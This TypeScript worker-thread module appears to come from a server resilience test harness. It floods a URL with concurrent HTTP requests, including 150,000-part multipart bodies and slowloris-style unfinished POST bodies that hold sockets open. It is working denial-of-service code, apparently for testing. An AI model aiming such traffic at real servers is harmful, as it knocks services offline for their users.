import { Agent, request } from 'node:http'
import { setTimeout as pause } from 'node:timers/promises'
import { parentPort, workerData } from 'node:worker_threads'
import { sendUnfinished } from './rawSocket.ts'

/** What an attacker sends again and again until told to stop. */
export interface Load {
  readonly url: string
  /** Requests that are on their way at once. */
  readonly atOnce: number
  readonly method: 'GET' | 'POST'
  /** One after another, round and round. */
  readonly paths: readonly string[]
  readonly headers: Readonly<Record<string, string>>
  /** `parts`: 8.6 MB of multipart with 150,000 parts. `unfinished`: the beginning of a body of 8.6 MB, and then nothing. Else the body itself, in whose text `{n}` becomes a number. */
  readonly body?: 'parts' | 'unfinished' | { readonly text: string } | { readonly bytes: Uint8Array }
}

/* Runs in a thread of its own, so that what it costs to send is not measured with the answers that the neighbour gets. */

const statuses = new Map<number, number>()
let isOver = false
let sent = 0

if (parentPort) {
  const load = workerData as Load // what `withLoad` gives
  parentPort.on('message', () => void (isOver = true))
  const agent = new Agent({ keepAlive: true, maxSockets: load.atOnce })
  const body =
    load.body === 'parts'
      ? manyParts()
      : typeof load.body === 'object' && 'bytes' in load.body
        ? Buffer.from(load.body.bytes)
        : undefined
  await Promise.all(
    Array.from({ length: load.atOnce }, () =>
      load.body === 'unfinished' ? keepOpen(load) : keepSending(load, agent, body),
    ),
  )
  agent.destroy()
  parentPort.postMessage({ sent, statuses: [...statuses] })
  parentPort.close()
}

function manyParts(): Buffer {
  const part = '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n'
  return Buffer.from(`${part.repeat(150_000)}--x--\r\n`)
}

async function keepSending(load: Load, agent: Agent, fixed: Buffer | undefined): Promise<void> {
  while (!isOver) {
    const nth = sent++
    const text =
      typeof load.body === 'object' && 'text' in load.body ? load.body.text.replaceAll('{n}', String(nth)) : undefined
    const status = await once(load, agent, load.paths[nth % load.paths.length] ?? '/', fixed ?? text)
    statuses.set(status, (statuses.get(status) ?? 0) + 1)
    if (status === 0) await pause(20)
  }
}

function once(
  { url, method, headers }: Load,
  agent: Agent,
  path: string,
  body: Buffer | string | undefined,
): Promise<number> {
  return new Promise((resolve) => {
    const length = body === undefined ? {} : { 'content-length': String(Buffer.byteLength(body)) }
    const asked = request(`${url}${path}`, { agent, method, headers: { ...headers, ...length } }, (answer) => {
      answer
        .resume()
        .once('end', () => resolve(answer.statusCode ?? 0))
        .once('error', () => resolve(0))
    })
    asked.once('error', () => resolve(0)).setTimeout(20_000, () => asked.destroy())
    asked.end(body)
  })
}

async function keepOpen({ url, paths, headers }: Load): Promise<void> {
  const lines = Object.entries({ host: new URL(url).host, ...headers, 'content-length': '8600000' }).map(
    ([name, value]) => `${name}: ${value}\r\n`,
  )
  while (!isOver) {
    sent++
    const socket = await sendUnfinished(
      url,
      `POST ${paths[0] ?? '/'} HTTP/1.1\r\n${lines.join('')}\r\n{"name":"${'x'.repeat(60_000)}`,
    ).catch(() => undefined)
    if (!socket) return pause(100)
    const gone = new Promise<void>((resolve) => socket.once('close', () => resolve()))
    while (!isOver && !socket.destroyed) await Promise.race([gone, pause(100)])
    socket.destroy()
  }
}
